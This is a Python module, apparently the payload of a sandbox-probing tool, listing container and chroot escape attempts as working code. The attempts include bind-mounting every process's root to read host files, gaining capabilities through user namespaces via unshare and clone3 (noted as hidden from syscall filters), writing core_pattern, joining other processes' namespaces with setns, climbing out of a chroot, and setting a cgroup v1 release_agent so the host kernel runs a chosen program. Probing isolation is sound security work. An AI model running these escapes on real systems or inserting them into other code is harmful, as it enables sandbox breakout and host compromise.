"""Ways to get another view of the filesystem: mounts, new namespaces, changed roots."""

from __future__ import annotations

import ctypes
import os
import tempfile
from typing import Any

from dutyfree.probe.payload.kernel import ARM, MS_BIND, MS_PRIVATE, MS_REC, NEWNS, NEWUSER, call, name_of, read_start

_NAMESPACES = ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time")


def mount_tmpfs(mark: str) -> dict[str, Any]:
    """A tmpfs whose source is the mark, on a fresh directory; `clean` takes it away."""
    place = tempfile.mkdtemp()
    return {"place": place, "result": name_of(call("mount", mark, place, "tmpfs", 0, None))}


def mount_new_api(mark: str) -> dict[str, Any]:
    """The same by fsopen, fsconfig, fsmount and move_mount."""
    place = tempfile.mkdtemp()
    context = call("fsopen", "tmpfs", 0)
    if context < 0:
        return {"place": place, "result": name_of(context)}
    call("fsconfig", context, 1, "source", mark, 0)
    call("fsconfig", context, 6, None, None, 0)
    tree = call("fsmount", context, 0, 0)
    moved = call("move_mount", tree, "", -100, place, 4) if tree >= 0 else tree
    return {"place": place, "result": name_of(moved)}


def unmount(place: str) -> dict[str, Any]:
    """Take a mount of ours away."""
    call("umount2", place, 2)
    os.rmdir(place)
    return {}


def bind_root(path: str) -> dict[str, Any]:
    """Bind / and every process's root somewhere, and look for a file of the host below."""
    found = []
    roots = ["/", *(f"/proc/{pid}/root" for pid in os.listdir("/proc") if pid.isdecimal())]
    for root in roots:
        place = tempfile.mkdtemp()
        if call("mount", root, place, None, MS_BIND | MS_REC, None) == 0:
            found.append(read_start(place + path).decode(errors="replace"))
            call("umount2", place, 2)
        tree = call("open_tree", -100, root, 1)
        if tree >= 0:
            found.append(read_start(f"/proc/self/fd/{tree}{path}").decode(errors="replace"))
    return {"found": found}


def unshare_and_mount(path: str, mark: str) -> dict[str, Any]:
    """A user namespace of one's own gives every capability in it: use them at once."""
    result = call("unshare", NEWUSER | NEWNS)
    return {"result": name_of(result), **_use_privilege(path, mark)}


def clone3_and_mount(path: str, mark: str) -> dict[str, Any]:
    """The same by clone3, whose flags a filter cannot see."""
    arguments = (ctypes.c_uint64 * 11)(NEWUSER | NEWNS, 0, 0, 0, 17)
    read_end, write_end = os.pipe()
    pid = call("clone3", ctypes.byref(arguments), ctypes.sizeof(arguments))
    if pid < 0:
        return {"result": name_of(pid)}
    if pid == 0:
        os.write(write_end, str(_use_privilege(path, mark)).encode())
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(write_end)
    return {"result": "ok", "child": os.read(read_end, 65536).decode(errors="replace")}


def _use_privilege(path: str, mark: str) -> dict[str, Any]:
    """Try what a newly won capability would allow."""
    for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        _write(f"/proc/self/{name}", text)
    place = tempfile.mkdtemp()
    call("mount", None, "/", None, MS_REC | MS_PRIVATE, None)
    mounted = call("mount", mark, place, "tmpfs", 0, None)
    proc = call("mount", "proc", place, "proc", 0, None)
    written = _write("/proc/sys/kernel/core_pattern", mark)
    return {
        "mounted": name_of(mounted),
        "proc": name_of(proc),
        "knob": written,
        "found": read_start(path).decode(errors="replace"),
    }


def _write(path: str, text: str) -> str:
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError as error:
        return error.strerror or "failed"
    return "ok"


def enter_namespaces(path: str) -> dict[str, Any]:
    """Join the namespaces of every visible process; tell which ones we are in afterwards."""
    joined = []
    for pid in sorted((entry for entry in os.listdir("/proc") if entry.isdecimal()), key=int):
        for name in _NAMESPACES:
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            if call("setns", fd, 0) == 0:
                joined.append(f"{pid}/{name}")
            os.close(fd)
    links = {name: _link(f"/proc/self/ns/{name}") for name in _NAMESPACES}
    return {"joined": joined, "namespaces": links, "found": read_start(path).decode(errors="replace")}


def _link(path: str) -> str:
    try:
        return os.readlink(path)
    except OSError:
        return ""


def break_chroot(path: str) -> dict[str, Any]:
    """Keep a directory open, change the root below it, climb out; and pivot_root."""
    found = []
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    place = tempfile.mkdtemp()
    pivoted = call("pivot_root", ".", ".")
    chrooted = call("chroot", place)
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
        found.append(read_start("." + path).decode(errors="replace"))
    call("chroot", ".")
    found.append(read_start(path).decode(errors="replace"))
    names = sorted(os.listdir("."))
    return {"pivot": name_of(pivoted), "chroot": name_of(chrooted), "found": sorted(set(found)), "root": names}


def set_release_agent(mark: str, path: str) -> dict[str, Any]:
    """Mount a version 1 hierarchy and name a program the kernel would run on the host."""
    results = {}
    for controller in ("memory", "pids", "cpu", "rdma", "misc", "none,name=" + mark):
        place = tempfile.mkdtemp()
        results[controller] = name_of(call("mount", "cgroup", place, "cgroup", 0, controller))
        if results[controller] == "ok":
            child = f"{place}/{mark}"
            os.mkdir(child)
            results[controller] = _write(f"{place}/release_agent", path)
            _write(f"{child}/notify_on_release", "1")
            if os.fork() == 0:
                _write(f"{child}/cgroup.procs", "0")
                os._exit(0)
            os.wait()
            os.rmdir(child)
    return {"results": results, "x86": not ARM}


ATTEMPTS = {
    "mount-tmpfs": mount_tmpfs,
    "mount-new-api": mount_new_api,
    "unmount": unmount,
    "bind-root": bind_root,
    "unshare-and-mount": unshare_and_mount,
    "clone3-and-mount": clone3_and_mount,
    "enter-namespaces": enter_namespaces,
    "break-chroot": break_chroot,
    "set-release-agent": set_release_agent,
}
